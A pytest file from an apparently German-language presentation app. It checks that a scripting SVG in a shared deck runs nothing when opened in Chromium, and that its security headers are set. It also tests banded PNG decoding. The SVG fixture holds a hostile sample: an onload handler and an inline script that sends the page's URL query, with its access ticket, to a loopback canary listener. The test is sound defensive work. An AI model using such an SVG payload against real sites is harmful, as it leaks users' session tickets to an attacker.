"""A scripting SVG in a deck someone sent: phones may see it, never run it (issue 33, item 4).

Real server, real Chromium: the phone opens the picture's URL on its own, as a tap on
a shared link would, and a canary listener on loopback counts every request the
picture tries to make.
"""

from __future__ import annotations

import contextlib
import http.client
import shutil
import socket
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Page, sync_playwright

from tests.support.chromium import CHROMIUM_FLAGS
from tests.support.serving import Server, start_server

DECK = """---
title: Zugeschickt
---

# Ein Bild

![Ein harmloses Diagramm](diagramm.svg)
"""

# Everything an SVG may try: a script (a synchronous request, so it is made before
# the page has loaded), an onload handler and a picture from another server.
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"
     onload="document.documentElement.setAttribute('data-onload', 'ran')">
  <rect width="200" height="100" fill="#0b3a82"/>
  <image href="http://127.0.0.1:{port}/bild.png" width="20" height="20"/>
  <script>
    document.documentElement.setAttribute("data-script", "ran");
    const request = new XMLHttpRequest();
    request.open("GET", "http://127.0.0.1:{port}/ticket?" + encodeURIComponent(location.search), false);
    request.send();
  </script>
</svg>
"""


class Canary:
    """A listener on loopback that counts who knocks."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.knocks = 0
        self.thread = threading.Thread(target=self._listen, daemon=True)
        self.thread.start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:  # closed
                return
            self.knocks += 1
            connection.close()

    def close(self) -> None:
        self.socket.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    listening = Canary()
    yield listening
    listening.close()


@pytest.fixture
def svg_server(tmp_path: Path, canary: Canary) -> Iterator[Server]:
    deck = tmp_path / "zugeschickt.md"
    deck.write_text(DECK, encoding="utf-8")
    (tmp_path / "diagramm.svg").write_text(SVG.format(port=canary.port), encoding="utf-8")
    server = start_server(tmp_path / "zugeschickt.impuls", deck)
    yield server
    assert server.stop() == 0, server.stderr


def test_an_svg_opened_on_its_own_runs_nothing_and_loads_nothing(
    svg_server: Server, canary: Canary
) -> None:
    server = svg_server
    ticket = server.ticket("neugierig")
    room = {"slide": 0, "blank": "none", "follow": True}
    assert server.call("PUT", "/api/room", room, token=server.token)[0] == 200
    path = f"/api/slides/0/images/0?ticket={ticket}"
    # In a thread of its own: the session's shared browser would leave Playwright's
    # event loop in this thread, where the other tests here call asyncio.run.
    with ThreadPoolExecutor(1) as pool:
        pool.submit(open_in_chromium, server, path, canary).result()
    check_headers(server, path)


def open_in_chromium(server: Server, path: str, canary: Canary) -> None:
    executable = shutil.which("chromium")
    assert executable is not None, "Debian's chromium: python3 tools/bootstrap.py test"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=CHROMIUM_FLAGS)
        try:
            look(browser.new_page(), server, path, canary)
        finally:
            browser.close()


def look(page: Page, server: Server, path: str, canary: Canary) -> None:
    requested: list[str] = []
    # Chromium announces a request before its policy blocks it: count what got through.
    page.on("requestfinished", lambda request: requested.append(request.url))
    url = f"http://127.0.0.1:{server.port}{path}"
    # Opened on its own it is an attachment: the browser saves it and shows no document
    # (before: an active SVG document on this origin, whose script and onload ran).
    # goto raises "Download is starting": there is no document to wait for
    with page.expect_download() as downloading, contextlib.suppress(PlaywrightError):
        page.goto(url, wait_until="load")
    assert downloading.value.url == url
    assert page.url == "about:blank"
    assert set(requested) <= {url}
    assert canary.knocks == 0  # before: the script's request, with the ticket

    # In a page's <img>, as the phone page shows it, it still draws.
    page.goto(f"http://127.0.0.1:{server.port}/", wait_until="load")
    width = page.evaluate(
        """(url) => new Promise((done) => {
            const picture = new Image();
            picture.onload = () => done(picture.naturalWidth);
            picture.onerror = () => done(0);
            picture.src = url;
        })""",
        url,
    )
    assert width == 200
    assert canary.knocks == 0


def check_headers(server: Server, path: str) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    connection.request("GET", path)
    response = connection.getresponse()
    body = response.read()
    connection.close()
    assert response.status == 200 and b"<svg" in body  # a picture that may draw
    assert response.getheader("Content-Type", "").startswith("image/svg+xml")
    policy = response.getheader("Content-Security-Policy", "")
    assert "default-src 'none'" in policy and "sandbox" in policy
    assert response.getheader("X-Content-Type-Options") == "nosniff"
    # opened on its own it is saved, never shown as a document of this origin
    assert response.getheader("Content-Disposition", "").startswith("attachment")


@pytest.mark.parametrize("mode", ["RGB", "RGBA", "L", "LA", "P"])
def test_a_large_png_decoded_in_bands_has_the_pixels_of_a_whole_decode(
    mode: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Phones get a picture just under the deck's 40-megapixel cap decoded band by band
    (bench/follow_memory.py: six phones, the server under 300 MB); each band's first row
    is the row before it, so PNG's filters, which look one row up, come out exact."""
    import io

    from PIL import Image

    from workshop_app.voting import follow_api

    monkeypatch.setattr(follow_api, "DECODE_BYTES", 200_000)  # many bands of a small PNG
    grey = Image.effect_noise((2000, 1300), 60).convert("L")
    picture = Image.merge("RGB", (grey, grey.transpose(Image.Transpose.FLIP_LEFT_RIGHT),
                                  grey.transpose(Image.Transpose.FLIP_TOP_BOTTOM)))  # fmt: skip
    picture = picture.quantize(64) if mode == "P" else picture.convert(mode)
    data = io.BytesIO()
    picture.save(data, "PNG")  # Pillow's adaptive filters: Sub, Up, Average and Paeth
    banded = follow_api._png_in_bands(data.getvalue())
    whole = (picture.convert("RGBA") if mode == "P" else picture).reduce(2000 // 720)
    assert banded.size == whole.size
    assert banded.tobytes() == whole.tobytes()
